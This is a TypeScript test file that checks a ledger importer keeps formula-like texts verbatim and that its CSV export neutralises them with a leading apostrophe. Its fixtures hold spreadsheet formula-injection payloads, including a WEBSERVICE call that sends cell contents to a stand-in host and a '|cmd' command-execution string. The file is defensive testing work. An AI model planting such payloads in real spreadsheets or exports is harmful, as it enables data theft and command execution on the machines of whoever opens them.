import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { expect, test } from 'vitest';
import { loadSiteContent } from '../../src/collections/site-content.ts';
import { loadImportRegistry } from '../../src/importer/import-registry.ts';
import { dataTables } from '../../src/outputs/data-tables.ts';
import { renderCsv } from '../../src/outputs/render-csv.ts';
import type { Ledger } from '../../src/records/model.ts';
import { csvReaders } from '../csv/csv-readers.ts';
import { importInto } from '../importer/import-case.ts';
import { readRecords } from './read-records.ts';

/** Texts that begin like formulas, with quotes and commas, and a cell of two lines. */
const original = join(import.meta.dirname, 'formulas.txt');
/** A small registry that knows the units of the original. */
const registry = resolve('tests/site/content/registry');

const ledger = await importOriginal();

test('texts are imported as printed', () => {
  expect(ledger.rows.map(({ text }) => text)).toEqual([
    '=WEBSERVICE("http://a.b/?"&A1)',
    '+1+1|cmd,改造“老码头”',
    '@SUM(1) 建设"渔港"',
    '-2+3',
    '＝1+1',
    '%0A=1+1',
  ]);
  expect(ledger.rows[1]?.unitsAsPrinted).toEqual({ 责任单位: '市住建局\n市水利局' });
});

for (const { name, read } of csvReaders) {
  test(`${name} sees one neutralised record for each row, and every table whole`, () => {
    const tables = read(dataTables.map((table) => renderCsv(table, ledger)));
    expect(tables).toEqual(dataTables.map((table) => readRecords(table, ledger)));
    const texts = [
      `'=WEBSERVICE("http://a.b/?"&A1)`,
      "'+1+1|cmd,改造“老码头”",
      `'@SUM(1) 建设"渔港"`,
      "'-2+3",
      "'＝1+1",
      '%0A=1+1',
    ];
    expect(readColumn(tables, 'rows', 'text')).toEqual(texts);
    expect(readColumn(tables, 'tasks', 'text')).toEqual(texts);
    expect(readColumn(tables, 'rows', 'unitsAsPrinted')[1]).toBe('责任单位：市住建局\n市水利局');
  });
}

async function importOriginal(): Promise<Ledger> {
  const root = await mkdtemp(join(tmpdir(), 'mingzhang-csv-'));
  try {
    await cp(registry, join(root, 'registry'), { recursive: true });
    await importInto(root, original, { by: await loadImportRegistry({ root, common: null }) });
    return (await loadSiteContent(root)).ledger;
  } finally {
    await rm(root, { recursive: true });
  }
}

function readColumn(tables: readonly string[][][], name: string, field: string): (string | undefined)[] {
  const [heading = [], ...records] = tables[dataTables.findIndex((table) => table.name === name)] ?? [];
  return records.map((cells) => cells[heading.indexOf(field)]);
}
